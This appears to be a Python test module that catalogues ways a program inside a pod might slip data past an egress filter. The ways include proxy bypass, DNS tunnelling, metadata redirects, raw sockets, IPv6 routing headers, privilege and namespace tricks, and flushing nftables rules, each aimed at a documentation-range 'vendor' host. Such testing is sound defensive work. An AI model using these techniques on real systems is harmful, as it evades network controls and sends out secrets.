# SPDX-License-Identifier: Apache-2.0
"""Ways out of a pod, each tried by a program of the shop's user: `ways.py NAME` tries one. What comes of it is seen on the far
side of the cable, so that a way says nothing and never fails. A way that `leads_out` is seen there when nothing holds it."""
import ctypes
import os
import socket
import struct
import subprocess
import sys
import threading

if __package__:
    from .wait import wait_for
else:
    from wait import wait_for

VENDOR, VENDOR6 = "198.51.100.7", "2001:db8:7::7"
NAME_SERVER, METADATA = "10.90.0.1", "169.254.169.254"
SHOP, HELPER_USER, GATE_USER = 33, 34, 64123
DEVICE = b"eth0"
WAIT = 1
WAYS = {}


class Way:
    def __init__(self, run, leads_out, needs_helper):
        self.run, self.leads_out, self.needs_helper = run, leads_out, needs_helper


def way(leads_out=True, needs_helper=False):
    def keep(function):
        WAYS[function.__name__] = Way(function, leads_out, needs_helper)
        return function

    return keep


def quietly(*words, **environment):
    clean = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "HOME": "/tmp", **environment}
    subprocess.run(words, env=clean, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=100)


def php(code, **environment):
    quietly("php", "-d", f"default_socket_timeout={WAIT}", "-r", code, **environment)


def curl(*words, **environment):
    quietly("curl", "-sk", "--max-time", str(WAIT), "-o", "/dev/null", *words, **environment)


def tcp(address, port, *options, family=socket.AF_INET, protocol=0, scope=0):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as one:
        one.settimeout(WAIT)
        for level, name, value in options:
            one.setsockopt(level, name, value)
        one.connect((address, port, 0, scope) if family == socket.AF_INET6 else (address, port))
        one.sendall(b"a secret")


def udp(address, port, *options, family=socket.AF_INET, protocol=0, data=b"a secret", bind=None):
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as one:
        for level, name, value in options:
            one.setsockopt(level, name, value)
        if bind:
            one.bind(bind)
        one.sendto(data, (address, port))


def question(name="c2VjcmV0.tunnel.example", kind=16):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)


# --- PHP, as shops have it -----------------------------------------------------------------------------------------------


@way()
def php_stream_without_a_proxy():
    php(f"@file_get_contents('http://{VENDOR}/');")


@way()
def php_curl_with_the_variables_unset():
    php(f"$c = curl_init('https://{VENDOR}/'); curl_setopt($c, CURLOPT_TIMEOUT, 1); curl_exec($c);")


@way()
def php_curl_with_no_proxy_for_all():
    php(f"$c = curl_init('https://{VENDOR}/'); curl_setopt($c, CURLOPT_TIMEOUT, 1); curl_exec($c);",
        https_proxy="http://127.0.0.1:3128", NO_PROXY="*")


@way()
def php_socket_to_a_mail_server():
    php(f"@fsockopen('{VENDOR}', 25, $e, $s, 1);")


@way()
def php_datagram():
    php(f"$s = stream_socket_client('udp://{VENDOR}:9'); fwrite($s, 'a secret');")


@way()
def php_question_to_a_name_server():
    php("dns_get_record('c2VjcmV0.tunnel.example', DNS_TXT);")


@way()
def php_name_of_a_host():
    php("gethostbyname('c2VjcmV0.tunnel.example');")


# --- curl ----------------------------------------------------------------------------------------------------------------


@way()
def curl_with_no_proxy():
    curl("--noproxy", "*", f"https://{VENDOR}/", https_proxy="http://127.0.0.1:3128")


@way()
def curl_to_another_port():
    curl(f"https://{VENDOR}:8443/")


@way()
def curl_with_the_name_of_another():
    curl("--connect-to", f"shop.example:443:{VENDOR}:443", "https://shop.example/")


@way()
def curl_over_ipv6():
    curl("-g", f"https://[{VENDOR6}]/")


@way()
def curl_bound_to_the_device():
    curl("--interface", "if!eth0", f"https://{VENDOR}/")


@way()
def curl_that_asks_names_over_https():
    curl("--doh-url", f"https://{VENDOR}/dns-query", "--doh-insecure", "https://vendor.example/")


@way()
def curl_with_data_in_the_first_packet():
    curl("--tcp-fastopen", f"http://{VENDOR}/")


@way()
def curl_that_follows_to_the_metadata():
    with socket.create_server(("127.0.0.1", 0)) as server:
        def answer():
            with server.accept()[0] as visitor:
                visitor.recv(4096)
                visitor.sendall(b"HTTP/1.1 302 Found\r\nLocation: http://%s/latest\r\nContent-Length: 0\r\n\r\n" % METADATA.encode())
        threading.Thread(target=answer, daemon=True).start()
        curl("-L", f"http://127.0.0.1:{server.getsockname()[1]}/")


@way()
def curl_to_a_mail_server():
    curl(f"smtp://{VENDOR}/", "--mail-from", "a@shop.example", "--mail-rcpt", "b@vendor.example")


# --- names ---------------------------------------------------------------------------------------------------------------


@way()
def question_to_the_resolver():
    udp(NAME_SERVER, 53, data=question())


@way()
def question_to_a_resolver_of_ones_own():
    udp(VENDOR, 53, data=question())


@way()
def question_over_ipv6():
    udp(VENDOR6, 53, family=socket.AF_INET6, data=question())


@way()
def question_over_tcp():
    tcp(VENDOR, 53)


@way()
def question_over_tls():
    tcp(VENDOR, 853)


@way()
def question_to_multicast_dns():
    udp("224.0.0.251", 5353, data=question("secret.local"))


# --- UDP and its relatives -----------------------------------------------------------------------------------------------


@way()
def datagram():
    udp(VENDOR, 9)


@way()
def datagram_over_ipv6():
    udp(VENDOR6, 9, family=socket.AF_INET6)


@way()
def quic():
    udp(VENDOR, 443, data=b"\xc0" + b"\0" * 1199)


@way()
def quic_over_ipv6():
    udp(VENDOR6, 443, family=socket.AF_INET6, data=b"\xc0" + b"\0" * 1199)


@way()
def datagram_in_fragments():
    udp(VENDOR, 9, data=b"a secret" * 1000)


@way()
def datagram_bound_to_the_device():
    udp(VENDOR, 9, (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, DEVICE))


@way()
def datagram_to_everybody():
    udp("10.90.0.255", 9, (socket.SOL_SOCKET, socket.SO_BROADCAST, 1))


@way()
def datagram_to_a_group():
    udp("239.1.2.3", 9)


@way()
def datagram_to_a_group_over_ipv6():
    udp("ff02::4242", 9, (socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex("eth0")), family=socket.AF_INET6)


@way()
def udp_lite():
    udp(VENDOR, 9, protocol=socket.IPPROTO_UDPLITE)


@way()
def joining_a_group():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        group = socket.inet_aton("239.115.101.99") + socket.inet_aton("10.90.0.2")
        one.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
        wait_for(lambda: reported("/proc/net/igmp", "636573EF", 3), "the kernel to report the group")


@way()
def joining_a_group_over_ipv6():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        group = socket.inet_pton(socket.AF_INET6, "ff05::7365:6372") + struct.pack("@I", socket.if_nametoindex("eth0"))
        one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, group)
        wait_for(lambda: reported("/proc/net/igmp6", "ff050000000000000000000073656372", 4), "the kernel to report the group")


def reported(path, group, column):
    """The kernel was the last to report it, or would have been."""
    with open(path) as table:
        return any(int(row.split()[column], 16) & (2 if column == 4 else 1) for row in table if group in row)



@way()
def port_that_the_gate_has_just_left():
    """The kernel still knows the flow that the gate had from there (the test made it)."""
    udp(VENDOR, 9, bind=("0.0.0.0", 40001))


# --- TCP with something odd ----------------------------------------------------------------------------------------------


@way()
def connection():
    tcp(VENDOR, 443)


@way()
def connection_over_ipv6():
    tcp(VENDOR6, 443, family=socket.AF_INET6)


@way()
def connection_to_a_database():
    tcp(VENDOR, 3306)


@way()
def connection_bound_to_the_device():
    tcp(VENDOR, 443, (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, DEVICE))


@way()
def connection_bound_to_the_device_over_ipv6():
    tcp(VENDOR6, 443, (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, DEVICE), family=socket.AF_INET6)


@way()
def connection_to_a_neighbour_by_its_zone():
    tcp("fe80::90:1", 443, family=socket.AF_INET6, scope=socket.if_nametoindex("eth0"))


@way()
def data_in_the_first_packet():
    with socket.socket() as one:
        one.settimeout(WAIT)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, DEVICE)
        one.sendto(b"a secret", socket.MSG_FASTOPEN, (VENDOR, 443))


@way()
def multipath_tcp():
    tcp(VENDOR, 443, protocol=262)


@way(leads_out=False)
def loose_source_route():
    route = b"\x83\x07\x04" + socket.inet_aton(NAME_SERVER) + b"\0"
    tcp(VENDOR, 443, (socket.IPPROTO_IP, socket.IP_OPTIONS, route))


@way()
def segment_routing_header():
    """RFC 8754: the packet goes to the first segment, and from there to the vendor."""
    segments = b"".join(socket.inet_pton(socket.AF_INET6, one) for one in ("::", "2001:db8:90::1"))
    header = struct.pack("BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + segments
    udp(VENDOR6, 9, (socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header), family=socket.AF_INET6)


@way(leads_out=False)
def destination_options():
    header = bytes([0, 0, 1, 4]) + b"\0" * 4
    udp(VENDOR6, 9, (socket.IPPROTO_IPV6, socket.IPV6_DSTOPTS, header), family=socket.AF_INET6)


# --- other protocols -----------------------------------------------------------------------------------------------------


@way()
def echo():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as one:
        one.sendto(b"\x08\0\0\0\0\0\0\1" + b"a secret", (VENDOR, 0))


@way()
def echo_over_ipv6():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6) as one:
        one.sendto(b"\x80\0\0\0\0\0\0\1" + b"a secret", (VENDOR6, 0))


@way(leads_out=False)
def stream_control():
    tcp(VENDOR, 443, protocol=socket.IPPROTO_SCTP)


@way(leads_out=False)
def raw_packet():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as one:
        one.sendto(b"E" + b"\0" * 27, (VENDOR, 0))


@way(leads_out=False)
def raw_packet_over_ipv6():
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, 253) as one:
        one.sendto(b"a secret", (VENDOR6, 0))


@way(leads_out=False)
def frame():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as one:
        one.bind(("eth0", 0x0800))
        one.send(b"\xff" * 6 + b"\2" * 6 + b"\x08\0" + b"E" + b"\0" * 40)


@way(leads_out=False)
def foreign_source():
    tcp(VENDOR, 443, (socket.IPPROTO_IP, 19, 1))  # IP_TRANSPARENT


@way(leads_out=False)
def mark_of_a_packet():
    tcp(VENDOR, 443, (socket.SOL_SOCKET, socket.SO_MARK, 1))


# --- another process, another user, another place ------------------------------------------------------------------------


@way()
def second_process():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            tcp(VENDOR, 443)
        os._exit(0)
    os.wait()


@way()
def second_thread():
    thread = threading.Thread(target=tcp, args=(VENDOR, 443))
    thread.start()
    thread.join()


@way()
def connection_that_nobody_has_any_more():
    one = socket.socket()
    one.setblocking(False)
    one.connect_ex((VENDOR, 443))
    one.close()


@way()
def becoming_the_gate():
    libc = ctypes.CDLL(None)
    libc.setresuid(GATE_USER, GATE_USER, GATE_USER)
    tcp(VENDOR, 443)


@way()
def program_that_is_the_gates():
    """A program with the set-user-ID bit of the gate's user (the test made it), which no_new_privs takes from it."""
    quietly(os.environ["SETUID_PYTHON"], "-c", f"import socket; socket.create_connection(('{VENDOR}', 443), {WAIT})")


@way()
def root_of_a_namespace_of_its_own():
    quietly("unshare", "--user", "--map-root-user", "curl", "-s", "--max-time", str(WAIT), f"http://{VENDOR}/")


@way()
def the_gate_in_a_namespace_of_its_own():
    quietly("unshare", "--user", f"--map-user={GATE_USER}", "curl", "-s", "--max-time", str(WAIT), f"http://{VENDOR}/")


@way(leads_out=False)
def network_of_its_own():
    quietly("unshare", "--user", "--map-root-user", "--net", "curl", "-s", "--max-time", str(WAIT), f"http://{VENDOR}/")


@way()
def rules_thrown_away():
    quietly("nft", "flush", "ruleset")
    quietly("unshare", "--user", "--map-root-user", "nft", "flush", "ruleset")
    tcp(VENDOR, 443)


@way()
def route_of_its_own():
    quietly("ip", "route", "add", f"{VENDOR}/32", "dev", "eth0")
    quietly("ip", "rule", "add", "uidrange", f"{SHOP}-{SHOP}", "lookup", "main")
    tcp(VENDOR, 443)


@way(needs_helper=True)
def helper_behind_an_abstract_socket():
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\0helper")
        one.sendall(b"connect")
        one.recv(1)


@way(needs_helper=True)
def socket_that_another_user_made():
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\0helper")
        one.sendall(b"lend")
        _, (descriptor,), _, _ = socket.recv_fds(one, 1, 1)
        with socket.socket(fileno=descriptor) as lent:
            lent.settimeout(WAIT)
            lent.connect((VENDOR, 443))


def help_others():
    """Another user's program in the pod, which connects for others, and lends them its sockets."""
    server = socket.socket(socket.AF_UNIX)
    server.bind("\0helper")
    server.listen()
    print("ready", flush=True)
    while True:
        with server.accept()[0] as visitor:
            if visitor.recv(16) == b"lend":
                with socket.socket() as one:
                    socket.send_fds(visitor, [b"x"], [one.fileno()])
            else:
                try:
                    tcp(VENDOR, 443)
                except OSError:
                    pass
                visitor.sendall(b"x")


if __name__ == "__main__":
    if sys.argv[1] == "help_others":
        help_others()
    try:
        WAYS[sys.argv[1]].run()
    except (OSError, subprocess.SubprocessError) as error:
        print(error, file=sys.stderr)
